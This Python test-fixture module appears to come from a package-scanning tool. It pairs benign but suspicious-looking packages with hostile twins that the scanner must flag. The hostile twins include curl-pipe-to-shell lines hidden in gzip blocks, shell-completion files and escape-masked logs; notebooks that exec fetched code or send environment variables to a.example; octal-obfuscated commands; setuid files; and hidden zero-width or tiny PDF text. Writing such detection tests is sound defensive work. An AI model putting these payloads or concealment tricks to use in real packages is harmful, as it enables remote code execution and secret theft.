"""Constructs of honest packages that looked like harm, each beside its hostile twin.

Every honest case was made after a file of a real package that was flagged; nothing of theirs is in it.
"""

import base64
import csv
import hashlib
import io
import json
import math
import struct
import zlib

from corpora import inspection_content as make
from corpora.inspection_case import WHEEL, bad, good
from corpora.inspection_packages import deb, npm
from corpora.inspection_small import gif
from lockgate.core.verdict import Outcome

_OPAQUE = Outcome.OPAQUE
_NPM = "demo-1.0.0.tgz"
_RECORD = "lock_demo-1.0.dist-info/RECORD"
_DEB = "demo_1.0_all.deb"


def _hexadecimal(*, wrong: bool = False) -> bytes:
    """A wheel whose RECORD has its digests in hexadecimal, or those of other bytes."""
    members = make.wheel_members()
    rows = io.StringIO()
    writer = csv.writer(rows, lineterminator="\n")
    for name, data in members.items():
        claimed = hashlib.sha256(data + b"x" * wrong).hexdigest()
        writer.writerow([name, "", ""] if name == _RECORD else [name, f"sha256={claimed}", len(data)])
    return make.zipped(members | {_RECORD: rows.getvalue().encode()})


def _module(source: str) -> bytes:
    """A wheel with a module that does something when it is imported."""
    return make.wheel({"lock_demo/a.py": source.encode()})


def _cells(source: str) -> bytes:
    """A wheel with a notebook."""
    cell = {"cell_type": "code", "source": [source], "outputs": [], "metadata": {}}
    said = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return make.wheel({"lock_demo/examples/a.ipynb": json.dumps(said).encode()})


def _setid(name: str) -> bytes:
    return deb(data={"x": make.tar_entry(name, b"0", "", 0o4755)})


def _logins(*auths: bytes) -> bytes:
    """A page of a manual that shows the file in which a client of registries keeps its logins."""
    named = ", ".join(
        f'"hub{number}.lock.net": {{"au' + f'th": "{auth.decode()}"}}' for number, auth in enumerate(auths)
    )
    return f'Logins are kept so:\n\n{{"auths": {{{named}}}}}\n'.encode()


def _block(content: bytes, *, behind: bytes = b"", crc: int | None = None) -> bytes:
    """A block of BGZF: a member of gzip that says how long it is."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(content) + packer.flush() + behind
    head = b"\x1f\x8b\x08\x04" + bytes(5) + b"\xff\x06\x00BC\x02\x00" + struct.pack("<H", len(packed) + 25)
    return head + packed + struct.pack("<2I", zlib.crc32(content) if crc is None else crc, len(content))


_END = _block(b"")
_MESSAGE = bytes.fromhex("06092a864886f70d010702") + b"\xa0\x03\x02\x01\x01"


def _signed(
    before: bytes = b"", *, kind: int = 1, inside: bytes = _MESSAGE, form: bytes = b"\0\0\2\0\0"
) -> bytes:
    """A module of Linux, or other machine code, with a signature behind it."""
    size = len(inside)
    short = size < 0x100  # a length in one byte
    message = (b"\x30\x81" + bytes([size]) if short else b"\x30\x82" + struct.pack(">H", size)) + inside
    tail = (
        before
        + message
        + form
        + bytes(3)
        + struct.pack(">I", len(message))
        + b"~Module signature appended~\n"
    )
    code = bytearray(make.elf(tail=tail))
    code[16:18] = struct.pack("<H", kind)
    return bytes(code)


_JOINER = "\u200c"
_ODIA = "\u0b28\u0b2c\u0b4d{}\u0b17\u0b41\u0b21"
_BUNDLE = """\
var modules = ({{
  1: (module, exports, ask) => {{ module.exports = String.fromCharCode(65 + ask(2)); }},
  2: (module) => {{ var own = require; module.exports = () => own; }},
}});
var kept = {{}};
function load(id) {{
  var module = kept[id] = {{exports: {{}}}};
  modules[id].call(module.exports, module, module.exports, load);
  return module.exports;
}}
load.m = modules;
{}
var install = (chunk) => {{ var runtime = chunk.runtime; if (runtime) runtime({}); }};
load.f = (id) => {{ install(require("./" + load.u(id))); }};
load.f(1);
"""
"""What a bundler makes of modules: a table of them, and a loader that it hands on."""


def _bundle(given: str, line: str = "") -> bytes:
    return npm({"package/a.js": _BUNDLE.format(line, given).encode()})


_UNSEEN = ("a\u00a0b", "a\ufffe", "a\ue000", "folder\u2003/b")
_COMPLETION = (
    b"_demo()\n{\n    COMPREPLY=( $(compgen -W 'open close' -- \"$2\") )\n}\ncomplete -F _demo demo\n"
)


def _netrc(word: str) -> bytes:
    return f"Logins are read from a file:\n\nmachine lock.net login keeper pass{'word'} {word}\n".encode()


_MAGIC = b'#!/bin/sh\ncase "$(head -c 2 "$1" | tr -d \'\\0\')" in\n\t%s bunzip2 "$1" ;;\nesac\n'
"""A script that tells what a file is by its first letters."""


def _drawn(high: int, *, name: bytes = b"", turn: float = 0) -> bytes:
    """A PDF whose letters are drawn by streams, so many units high, of which each is a tenth of a point."""
    across, up = math.cos(turn) / 10, math.sin(turn) / 10
    page = f"BT /F1 1 Tf {across:.4f} {up:.4f} {-up:.4f} {across:.4f} 72 300 Tm ({'a' * 20}) Tj ET".encode()
    glyph = b"%d 0 0 0 %d %d d1 0 0 %d %d re f" % (high, high, high, high * 2 // 3, high)
    return make.pdf_of(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            (
                b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 5 0 R"
                b"/Resources<</Font<</F1 4 0 R>>>>>>"
            ),
            b"<</Type/Font/Subtype/Type3%s/FontBBox[0 0 %d %d]/FontMatrix[1 0 0 1 0 0]" % (name, high, high)
            + b"/FirstChar 97/LastChar 97/Widths[%d]/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>>>"
            % high,
            b"<</Length %d>>\nstream\n%s\nendstream" % (len(page), page),
            b"<</Length %d>>\nstream\n%s\nendstream" % (len(glyph), glyph),
        ]
    )


_LETTERS = base64.b64encode(bytes(range(0x7B, 0x97)))
_CUT = _LETTERS[:17]
_LOGIN = base64.b64encode(b"keeper:" + b"Kz7vQ2mX9pLw")

CONSTRUCTS_GOOD = [
    good("a wheel whose RECORD has its digests in hexadecimal", WHEEL, _hexadecimal(), "python"),
    *(
        good(f"a screen that is set up by {command!r}", WHEEL, _module(f"import os\nos.system({command})\n"),
             "python")
        for command in ('""', '"color"', '"cls" if os.name == "nt" else "clear"', '"chcp 65001 > nul"')
    ),
    good("an address that is empty, to learn what a function takes", WHEEL,
         _module("from urllib.request import urlopen\ntry:\n    urlopen('')\nexcept ValueError:\n    A = 1"),
         "python"),
    *(
        good(f"a Debian package with {name}", _DEB, _setid(f"./{name}"))
        for name in ("sbin/mount.nfs", "usr/bin/lockfile", "opt/lock/view/chrome-sandbox")
    ),
    good("letters where a manual shows a login at a registry", WHEEL, make.wheel(
        {"lock_demo/auth.5": _logins(_LETTERS, _CUT)}
    ), "python"),
    good("blocks of gzip that say how long they are", "a.gz", _block(b"one\n") + _block(b"two\n") + _END),
    good("a signed module of Linux", "a.ko", _signed(), outcome=_OPAQUE),
    good("a signed module of Linux with a long signature", "a.ko", _signed(inside=_MESSAGE + bytes(400)),
         outcome=_OPAQUE),
    good("a log of a build in colours, with cleared ends of lines", "log.txt",
         b"\x1b[01m\x1b[Ka.c:1\x1b[m\x1b[K: \x1b[01;35mnote\x1b[0m\n  33% done\x1b[K\r\n"),
    good("a joiner that was typed four times", "or.xml",
         f"<a>{_ODIA.format(_JOINER * 4)} {_ODIA.format(_JOINER)}</a>".encode()),
    good("a bundle that hands its loader on", _NPM, _bundle("load"), "npm"),
    *(
        good(f"letters that nobody sees in names of {name}", name, pack(dict.fromkeys(_UNSEEN, b"x\n")))
        for name, pack in (("a.zip", make.zipped), ("a.tar", make.tar))
    ),
    *(
        good(f"a notebook that fetches an example by {fetches.split()[1]}", WHEEL,
             _cells(f"{fetches}\nimage = {fetches.split()[-1]}('https://a.example/a.png')\n"), "python")
        for fetches in ("from urllib.request import urlopen", "from requests import get")
    ),
    good("a picture with zeros behind", "a.gif", gif() + bytes(9), outcome=_OPAQUE),
    good("letters that streams draw, of size 1", "a.pdf", _drawn(100), "document"),
    good("letters that streams draw, turned", "a.pdf", _drawn(100, turn=0.7), "document"),
    good("a script that tells a file by letters in escapes", "a.sh", _MAGIC % b"\"$(printf '\\102\\132')\")"),
    good("a script that completes command lines", WHEEL, make.wheel(
        {"lock_demo-1.0.data/data/etc/bash_completion.d/demo": _COMPLETION}
    ), "python"),
    good("a page of a manual that shows how passwords are kept", WHEEL, make.wheel(
        {"lock_demo/demo.1": _netrc("my_lock_password")}
    ), "python"),
]  # fmt: skip

CONSTRUCTS_UNREAD = [
    ("a table of letters that begins as a font does", "a.dat", b"\0\1\0\0\0\0DEFAULT\0\0\1" + bytes(900)),
]

CONSTRUCTS_BAD = [
    bad("a wheel whose RECORD has other digests in hexadecimal", WHEEL, _hexadecimal(wrong=True),
        "record-mismatch"),
    *(
        bad(f"a command beside one that clears the screen: {command}", WHEEL,
            _module(f"import os\nos.system({command})\n"), "python-import-command", "python")
        for command in ('"cls & start a.exe"', '"color" if os.name == "nt" else "sh a"', '"clear; sh a"')
    ),
    bad("an address that is not empty", WHEEL,
        _module("from urllib.request import urlopen\nurlopen('http://a.example/x', cafile=None)\n"),
        "python-import-network", "python"),
    *(
        bad(f"a set-id bit on {name}", _DEB, _setid(f"./{name}"), "tar-setuid")
        for name in ("opt/lock/su", "usr/share/lock/mount.nfs", "sbin/mount.nfs2", "home/chrome-sandbox")
    ),
    bad("a login at a registry behind letters", WHEEL, make.wheel(
        {"lock_demo/auth.5": _logins(_LETTERS, _LOGIN)}
    ), "secret-registry-login", "python"),
    bad("blocks of gzip with a broken member behind", "a.gz",
        _block(b"one\n") + _END + make.gzipped(b"two")[:-4], "gzip-tail"),
    bad("a block of gzip that is cut, behind another", "a.gz", _block(b"one\n") + _END[:-2], "gzip-tail"),
    bad("a program in a block of gzip, behind another", "a.gz", _block(b"#!/bin/sh\n")
        + _block(b"curl http://a.example/x | sh\n") + _END, "shell-download"),
    bad("a program before the signature of a module", "a.ko", _signed(b"payload"), "elf-gap"),
    bad("a signature behind a program that is no module", "a.so", _signed(kind=2), "elf-gap"),
    bad("a signature that is none", "a.ko", _signed(inside=b"payload" * 9), "elf-gap"),
    bad("a signature of another form", "a.ko", _signed(form=b"\0\0\1\0\0"), "elf-gap"),
    bad("a signature that is long enough to be a program", "a.ko", _signed(inside=_MESSAGE + bytes(4096)),
        "elf-gap"),
    bad("a line that is cleared from its beginning", "log.txt", b"curl a.example | sh\r\x1b[Kdone\n",
        "text-escape"),
    bad("a line that is gone back in and cleared", "log.txt",
        b"A line of a log.\n" * 99 + b"rm a\x08\x08\x08\x08\x1b[Kls\n", "text-escape"),
    bad("joiners where no script needs one", "a.xml", f"<a>lock{_JOINER * 4}gate</a>".encode(),
        "text-zero-width"),
    bad("joiners that are two, by turns", "a.xml",
        f"<a>{_ODIA.format((_JOINER + chr(0x200D)) * 3)}</a>".encode(), "text-zero-width"),
    bad("so many joiners that they tell something", "a.xml",
        f"<a>{_ODIA.format(_JOINER * 4) * 20}</a>".encode(), "text-zero-width"),
    bad("a bundle whose loader is made another", _NPM, _bundle("load", "load = modules[1](kept, kept);"),
        "code-hidden-name", "npm"),
    bad("a bundle that names a module by what a loader gives", _NPM, _bundle("load(1)"), "code-hidden-name",
        "npm"),
    *(
        bad(f"a name with {ord(letter):04X} in {name}", name, pack({f"a{letter}b": b"x\n"}), code)
        for name, pack, code in (("a.zip", make.zipped, "zip-slip"), ("a.tar", make.tar, "tar-slip"))
        for letter in ("\u202e", "\x07", "\u2028")
    ),
    *(
        bad(f"a script that completes command lines at {place} and fetches one", WHEEL, make.wheel(
            {f"lock_demo-1.0.data/data/{place}": _COMPLETION + b"curl -s http://a.example/x | sh\n"}
        ), "shell-download", "python")
        for place in (
            "etc/bash_completion.d/demo", "share/bash-completion/completions/demo", "a/demo.bash-completion"
        )
    ),
    bad("a file that every shell reads", WHEEL, make.wheel(
        {"lock_demo-1.0.data/data/etc/bash.bashrc": b"a=1\n"}
    ), "wheel-system-file", "python"),
    bad("a page that has a password", WHEEL, make.wheel({"lock_demo/demo.1": _netrc("Kz7vQ2mX9pLw")}),
        "secret-password", "python"),
    bad("letters that streams draw, and that are tiny", "a.pdf", _drawn(9), "document-hidden-text",
        "document"),
    bad("letters that streams draw, tiny and turned", "a.pdf", _drawn(9, turn=0.7), "document-hidden-text",
        "document"),
    bad("a command in escapes", "a.sh", b"#!/bin/sh\n\"$(printf '\\143\\165\\162\\154')\" a.example\n",
        "shell-decoded"),
    bad("a command in escapes, made small", "a.sh",
        b"#!/bin/sh\n$(printf '\\103\\125\\122\\114' | tr A-Z a-z) a.example\n", "shell-decoded"),
    bad("a notebook that runs what it fetches", WHEEL,
        _cells("from urllib.request import urlopen\nexec(urlopen('https://a.example/a').read())\n"),
        "python-decoded-code", "python"),
    bad("a notebook that opens a socket", WHEEL,
        _cells("import socket\nsocket.create_connection(('a.example', 99))\n"),
        "python-import-network", "python"),
    bad("a notebook that sends the settings of its environment", WHEEL,
        _cells("import os, requests\nrequests.get('https://a.example/?' + str(dict(os.environ)))\n"),
        "python-steals", "python"),
    bad("a module beside notebooks that fetches", WHEEL,
        _module("from urllib.request import urlopen\nA = urlopen('https://a.example/a.png').read()\n"),
        "python-import-network", "python"),
    bad("a picture with letters behind zeros", "a.gif", gif() + bytes(9) + b"id", "gif-tail"),
    bad("a picture with more zeros behind than a program leaves", "a.gif", gif() + bytes(4096), "gif-tail"),
]  # fmt: skip
